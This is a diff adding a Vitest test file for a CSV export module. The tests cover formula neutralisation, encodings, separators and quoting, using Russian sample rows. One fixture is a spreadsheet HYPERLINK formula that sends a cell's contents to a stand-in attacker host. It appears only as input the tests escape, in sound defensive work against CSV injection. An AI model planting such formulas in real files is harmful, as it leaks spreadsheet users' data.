@@ -1,0 +1,116 @@
+import { describe, expect, it } from 'vitest';
+import { decodeCsvBytes } from './decode';
+import { csvCell, encodeCsv, exportCsv, exportCsvText } from './export';
+import { isPlainNumberOrPhone, neutralizeFormula, restoreFormula } from './formula';
+
+describe('formula neutralisation', () => {
+	const table: [string, string][] = [
+		// Formulas and anything a spreadsheet would evaluate: neutralised.
+		[
+			'=HYPERLINK("http://evil.example/?"&A1;"Нажмите")',
+			`'=HYPERLINK("http://evil.example/?"&A1;"Нажмите")`
+		],
+		['=1+1', "'=1+1"],
+		['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+		['+A1', "'+A1"],
+		['-2+3', "'-2+3"],
+		['-A1', "'-A1"],
+		['=СУММ(A1:A2)', "'=СУММ(A1:A2)"],
+		['\tTAB', "'\tTAB"],
+		['\rCR', "'\rCR"],
+		['- хлеб', "'- хлеб"],
+		['+7 (812) 123-45-67 доб. 12', "'+7 (812) 123-45-67 доб. 12"],
+		['+5+5', "'+5+5"],
+		// Ordinary values: untouched.
+		['+7 (812) 123-45-67', '+7 (812) 123-45-67'],
+		['+79111234567', '+79111234567'],
+		['+7-911-123-45-67', '+7-911-123-45-67'],
+		['-5', '-5'],
+		['-12', '-12'],
+		['+5', '+5'],
+		['+123', '+123'],
+		['-1 234,5', '-1 234,5'],
+		['-1\u00a0234,5', '-1\u00a0234,5'],
+		['-0.5', '-0.5'],
+		['-15%', '-15%'],
+		['Иванов', 'Иванов'],
+		['', ''],
+		['1+1', '1+1'],
+		[' =1', ' =1'],
+		// Already escaped: one more apostrophe, so that import gives it back.
+		["'=1+1", "''=1+1"],
+		["'-5", "''-5"],
+		["''@x", "'''@x"],
+		["'abc", "'abc"],
+		["'", "'"]
+	];
+
+	it.each(table)('%j is written as %j and read back as itself', (value, written) => {
+		expect(neutralizeFormula(value)).toBe(written);
+		expect(restoreFormula(written)).toBe(value);
+	});
+
+	it('recognises plain numbers and phones strictly', () => {
+		expect(isPlainNumberOrPhone('+7 (812) 123-45-67')).toBe(true);
+		expect(isPlainNumberOrPhone('-1 234,5')).toBe(true);
+		expect(isPlainNumberOrPhone('-1 23,5')).toBe(false);
+		expect(isPlainNumberOrPhone('+7 812 SUM')).toBe(false);
+		expect(isPlainNumberOrPhone('+7 (812) 1')).toBe(false);
+	});
+
+	it("reads a third-party file's apostrophe before a formula start as Excel shows it", () => {
+		expect(restoreFormula("'=A1")).toBe('=A1');
+		expect(restoreFormula("'89111234567")).toBe("'89111234567");
+	});
+});
+
+describe('exportCsv', () => {
+	const header = ['ФИО', 'Телефон', 'Примечание'];
+	const rows = [
+		['Иванова Анна', '+7 (812) 123-45-67', 'Сын — "Алексей"; звонить\nвечером'],
+		['Петров, Пётр', '', '=HYPERLINK("x")'],
+		[' Сидоров ', '-5']
+	];
+
+	it('writes excel-ru: BOM, `;`, CRLF, quotes where needed, a padded short row', () => {
+		const bytes = exportCsv({ header, rows });
+		expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+		expect(new TextDecoder().decode(bytes.subarray(3))).toBe(
+			'ФИО;Телефон;Примечание\r\n' +
+				'Иванова Анна;+7 (812) 123-45-67;"Сын — ""Алексей""; звонить\nвечером"\r\n' +
+				`"Петров, Пётр";;"'=HYPERLINK(""x"")"\r\n` +
+				'" Сидоров ";-5;\r\n'
+		);
+	});
+
+	it('writes utf8-comma without a BOM, separated by commas', () => {
+		const bytes = exportCsv({ header, rows, format: 'utf8-comma' });
+		expect([...bytes.slice(0, 2)]).toEqual([0xd0, 0xa4]); // Ф, no BOM
+		const text = new TextDecoder().decode(bytes);
+		expect(text.split('\r\n')[0]).toBe('ФИО,Телефон,Примечание');
+		expect(text).toContain('"Петров, Пётр",,');
+	});
+
+	it('writes windows-1251 that decodes back, counting characters it cannot hold', () => {
+		const { bytes, unmappable } = encodeCsv({
+			header: ['ФИО'],
+			rows: [['Зоë 👵']],
+			format: 'windows-1251'
+		});
+		expect(unmappable).toBe(2);
+		expect(decodeCsvBytes(bytes)).toEqual({ text: 'ФИО\r\nЗо? ?\r\n', encoding: 'windows-1251' });
+	});
+
+	it('quotes any of ; , TAB whatever the separator, and cells with edge spaces', () => {
+		expect(csvCell('a,b')).toBe('"a,b"');
+		expect(csvCell('a\tb')).toBe('"a\tb"');
+		expect(csvCell('a;b')).toBe('"a;b"');
+		expect(csvCell(' a')).toBe('" a"');
+		expect(csvCell('a\u00a0')).toBe('"a\u00a0"');
+		expect(csvCell('a b')).toBe('a b');
+	});
+
+	it('can leave formulas alone when asked', () => {
+		expect(exportCsvText({ header: ['=x'], rows: [], neutralizeFormulas: false })).toBe('=x\r\n');
+	});
+});
